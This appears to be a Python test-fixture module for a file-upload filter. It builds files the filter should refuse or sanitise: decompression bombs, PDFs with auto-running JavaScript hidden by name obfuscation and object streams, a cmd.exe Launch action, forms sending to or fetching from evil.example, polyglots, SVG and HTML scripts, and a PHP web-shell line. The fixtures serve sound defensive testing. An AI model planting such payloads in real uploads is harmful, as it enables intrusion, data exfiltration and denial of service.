"""Documents that nobody should be able to store, and images that carry more than a picture.

Each is a name, its bytes and the type that it is sent as. Names say what they are.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image, PngImagePlugin

from tests.builder.web.visitor import PDF

CANARY = b"KANARI7471009901010001"


def picture(kind: str = "PNG", size: tuple[int, int] = (8, 8), **about: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 10, 10)).save(out, kind, **about)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def image_bomb(side: int = 13_000) -> bytes:
    """A PNG of 169 million pixels in some kilobytes."""
    head = side.to_bytes(4, "big") * 2 + b"\x01\x00\x00\x00\x00"
    rows = zlib.compress((b"\x00" + b"\x00" * ((side + 7) // 8)) * side, 9)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def text_bomb() -> bytes:
    """A PNG whose compressed text unfolds to 60 MB."""
    text = b"x\x00\x00" + zlib.compress(b"a" * 60_000_000, 9)
    whole = picture()
    return whole[:33] + chunk(b"zTXt", text) + whole[33:]


def noted(kind: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E], exif[0x8298] = CANARY.decode(), CANARY.decode()
    exif.get_ifd(0x8825)[2] = (3.0, 59.0, 0.0)
    about: dict[str, Any] = {"exif": exif}
    if kind == "PNG":
        about["pnginfo"] = PngImagePlugin.PngInfo()
        about["pnginfo"].add_text("Comment", CANARY.decode())
        about["pnginfo"].add_itxt("XML:com.adobe.xmp", CANARY.decode())
    else:
        about["comment"] = CANARY
    return picture(kind, **about) + CANARY


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, each a dictionary or a stream."""
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def stream(about: bytes, data: bytes) -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (about, len(data), data)


def in_object_stream(
    inner: bytes,
    about: bytes = b"/Filter/FlateDecode",
    pack: Callable[[bytes], bytes] = zlib.compress,
) -> bytes:
    """A PDF with an object where only an unpacked stream shows it."""
    packed = pack(b"7 0 " + inner)
    return pdf(b"<</Type/Catalog>>", stream(b"/Type/ObjStm/N 1/First 4" + about, packed))


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
ACTIVE: dict[str, bytes] = {
    "script on opening": pdf(b"<</Type/Catalog/OpenAction%b>>" % SCRIPT),
    "script by names": pdf(b"<</Names<</JavaScript<</Names[(a) 2 0 R]>>>>>>", SCRIPT),
    "script of a page": pdf(b"<</Type/Page/AA<</O%b>>>>" % SCRIPT),
    "script of a button": pdf(b"<</Subtype/Widget/A%b>>" % SCRIPT),
    "script by numbers": pdf(b"<</OpenAction<</S/#4aavaScript/JS(1)>>>>"),
    "script all in numbers": pdf(
        b"<</OpenAction<</S/" + b"".join(b"#%02X" % c for c in b"JavaScript") + b"/JS(1)>>>>"
    ),
    "script in an object stream": in_object_stream(SCRIPT),
    "script in a locked object stream": in_object_stream(SCRIPT, pack=lambda data: data[::-1]),
    "script in another filter": in_object_stream(
        SCRIPT, b"/Filter[/ASCIIHexDecode/FlateDecode]", lambda d: zlib.compress(d).hex().encode()
    ),
    "script in a stream of numbers": in_object_stream(SCRIPT).replace(b"/ObjStm", b"/Obj#53tm"),
    "script in a comment": pdf(b"<<>>").replace(b"trailer", b"%9 0 obj" + SCRIPT + b"\ntrailer"),
    "script after the end": pdf(b"<<>>") + b"9 0 obj" + SCRIPT + b"endobj\n%%EOF\n",
    "program to start": pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
    "file inside": pdf(b"<</Type/Filespec/EF<</F 2 0 R>>>>", stream(b"/Type/EmbeddedFile", b"MZ")),
    "files by names": pdf(b"<</Names<</EmbeddedFiles<</Names[(a) 2 0 R]>>>>>>"),
    "film": pdf(b"<</Subtype/RichMedia>>"),
    "rendition": pdf(b"<</A<</S/Rendition>>>>"),
    "form that sends itself": pdf(b"<</A<</S/SubmitForm/F(http://evil.example)>>>>"),
    "form that fetches": pdf(b"<</A<</S/ImportData/F(//evil.example/x)>>>>"),
    "other file": pdf(b"<</OpenAction<</S/GoToR/F(\\\\evil.example\\x)>>>>"),
    "file in a file": pdf(b"<</A<</S/GoToE>>>>"),
    "form of another kind": pdf(b"<</AcroForm<</XFA 2 0 R>>>>", stream(b"", b"<xdp/>")),
    "object stream that is a bomb": in_object_stream(b"\0" * 40_000_000),
}
HARMLESS: dict[str, bytes] = {
    "letter": pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"),
    "with a link": pdf(b"<</A<</S/URI/URI(https://kendarikota.go.id)>>>>"),
    "with bookmarks": pdf(b"<</Type/Outlines/First 2 0 R/Last 2 0 R>>", stream(b"", b"\xff\xd8")),
    "with object streams": in_object_stream(b"<</Type/Page/First 3 0 R>>"),
    "scanned": pdf(stream(b"/Filter/DCTDecode", picture("JPEG"))),
    "packed pixels": pdf(stream(b"/Filter/FlateDecode", zlib.compress(bytes(3_000_000)))),
    "signed": pdf(b"<</Type/Sig/Contents<00>/ByteRange[0 1 2 3]>>"),
}


def packed_script() -> bytes:
    """A zip whose only file is HTML, which some programs read from the end."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", HTML)
    return out.getvalue()


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
REFUSED: dict[str, tuple[str, bytes, str]] = {
    "empty": ("a.pdf", b"", "application/pdf"),
    "HTML called PDF": ("a.pdf", HTML, "application/pdf"),
    "HTML called image": ("a.jpg", HTML, "image/jpeg"),
    "HTML as HTML": ("a.html", HTML, "text/html"),
    "SVG": ("a.svg", SVG, "image/svg+xml"),
    "SVG called PNG": ("a.png", SVG, "image/png"),
    "SVG with a prolog": ("a.png", b"<?xml version='1.0'?>" + SVG, "image/png"),
    "GIF": ("a.gif", picture("GIF"), "image/gif"),
    "GIF called PNG": ("a.png", picture("GIF"), "image/png"),
    "BMP": ("a.png", picture("BMP"), "image/png"),
    "TIFF": ("a.jpg", picture("TIFF"), "image/jpeg"),
    "WebP": ("a.webp", picture("WEBP"), "image/webp"),
    "ICO": ("a.png", picture("ICO"), "image/png"),
    "PPM": ("a.png", picture("PPM"), "image/png"),
    "zip": ("a.pdf", b"PK\x03\x04" + b"\0" * 60, "application/pdf"),
    "gzip": ("a.pdf", b"\x1f\x8b\x08" + b"\0" * 60, "application/pdf"),
    "program": ("a.pdf", b"MZ" + b"\0" * 60, "application/pdf"),
    "ELF": ("a.png", b"\x7fELF" + b"\0" * 60, "image/png"),
    "script": ("a.png", b"#!/bin/sh\nid\n", "image/png"),
    "PHP": ("a.php.jpg", b"<?php system($_GET[0]); ?>", "image/jpeg"),
    "PHP with a head": ("a.jpg", b"\xff\xd8\xff<?php ?>", "image/jpeg"),
    "PDF later in HTML": ("a.pdf", HTML + PDF, "application/pdf"),
    "PDF after 900 bytes": ("a.pdf", b"\0" * 900 + PDF, "application/pdf"),
    "PDF without its end": ("a.pdf", b"%PDF-1.7\n" + HTML, "application/pdf"),
    "half a PNG": ("a.png", picture()[:40], "image/png"),
    "PNG head only": ("a.png", b"\x89PNG\r\n\x1a\n", "image/png"),
    "PNG then PDF head": ("a.png", b"\x89PNG\r\n\x1a\n%PDF-1.4\n%%EOF", "image/png"),
    "JPEG ends only": ("a.jpg", b"\xff\xd8\xff\xe0\xff\xd9", "image/jpeg"),
    "zero by zero": ("a.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0" * 13), "image/png"),
    "image bomb": ("a.png", image_bomb(), "image/png"),
    "EPS": ("a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n", "image/jpeg"),
    "UTF-16 HTML": ("a.pdf", HTML.decode().encode("utf-16"), "application/pdf"),
    "Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "application/msword"),
    "PDF in another case": ("a.pdf", PDF.replace(b"%PDF", b"%pdf"), "application/pdf"),
    "zip of a page": ("a.pdf", packed_script(), "application/pdf"),
    **{name: ("a.pdf", content, "application/pdf") for name, content in ACTIVE.items()},
    "e-mail": ("a.eml", b"From: a@b.example\r\nTo: c\r\n\r\n", "message/rfc822"),
}
NEUTRALISED: dict[str, bytes] = {
    "EXIF, GPS and comment in a JPEG": noted("JPEG"),
    "EXIF, text and XMP in a PNG": noted("PNG"),
    "PNG and PHP": picture() + b"<?php system(0); ?>" + CANARY,
    "JPEG and zip": picture("JPEG") + b"PK\x03\x04" + CANARY + b"\xff\xd9",
}
